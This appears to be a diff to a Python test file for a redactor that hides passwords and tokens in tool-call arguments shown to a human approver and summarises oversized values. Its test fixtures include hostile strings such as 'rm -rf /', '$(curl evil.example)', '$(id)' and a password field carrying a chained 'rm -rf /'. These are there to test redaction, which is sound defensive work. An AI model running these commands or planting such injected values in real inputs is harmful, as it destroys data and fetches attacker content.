@@ -155,20 +155,52 @@ def test_whoever_approves_is_shown_all_but_the_secrets() -> None:
         "rows": [{"n": n, "text": "y" * 100} for n in range(500)],
         "api_key": "k",
         "deep": {"password": "p", "key": "shown", "content": long},
+        "password": "rm -rf /",
+        "secret": ["sh", "-c", {"token": "$(curl evil.example)", "auth": True}],
+        "argv": ["--token", "abc", "--token", "$(id)"],
     }
     assert REDACTOR.whole(None, given) == {
         "content": f"{long} {HIDDEN} {long}",
         "rows": given["rows"],
-        "api_key": HIDDEN,
-        "deep": {"password": HIDDEN, "key": "shown", "content": long},
+        "api_key": "[redacted, 1 character]",
+        "deep": {"password": "[redacted, 1 character]", "key": "shown", "content": long},
+        "password": "rm -rf /",
+        "secret": given["secret"],
+        "argv": ["--token", HIDDEN, "--token", "$(id)"],
     }
 
 
-def test_what_a_schema_calls_a_password_nobody_is_shown() -> None:
+def test_what_a_schema_calls_a_password_nobody_is_shown_but_what_may_act() -> None:
     schema: dict[str, object] = {
         "type": "object",
         "properties": {"phrase": {"type": "string", "format": "password"}, "max_tokens": {}},
     }
     spec = ToolSpec(name="log_in", input_schema=schema)
-    given = {"phrase": "open sesame", "max_tokens": 5}
-    assert REDACTOR.whole(spec, given) == {"phrase": HIDDEN, "max_tokens": 5}
+    given = {"phrase": "open-sesame", "max_tokens": 5}
+    hidden = "[redacted, 11 characters]"
+    assert REDACTOR.whole(spec, given) == {"phrase": hidden, "max_tokens": 5}
+    assert REDACTOR.arguments(spec, given) == {"phrase": HIDDEN, "max_tokens": 5}
+    acting = {"phrase": "open sesame; rm -rf /"}
+    assert REDACTOR.whole(spec, acting) == acting
+    assert REDACTOR.arguments(spec, acting) == {"phrase": HIDDEN}
+
+
+def test_what_is_too_long_to_be_looked_through_is_told_by_its_size() -> None:
+    most = 256_000
+    assert shown(x="a" * most) == {"x": summary("a" * most)}
+    assert shown(x="s3cr3t-value" + "é" * most) == {"x": {"bytes": 2 * most + 12}}
+    rows = ["a" * 1_000] * 300
+    assert shown(rows=rows, by={"é" * most: [rows]}) == {"rows": {"items": 300}, "by": {"items": 1}}
+    assert shown(rows=[0] * most, t=("a",)) == {"rows": {"items": most}, "t": ["a"]}
+    assert shown(by=dict.fromkeys(range(most))) == {"by": {"items": most}}
+
+
+def test_all_arguments_of_a_call_together_are_looked_through_so_far() -> None:
+    text = "a" * 200_000
+    found = shown(first=text, second=text, third="x" * 300, deep=[{"text": text}])
+    assert found == {
+        "first": summary(text),
+        "second": {"bytes": 200_000},
+        "third": summary("x" * 300),
+        "deep": {"items": 1},
+    }
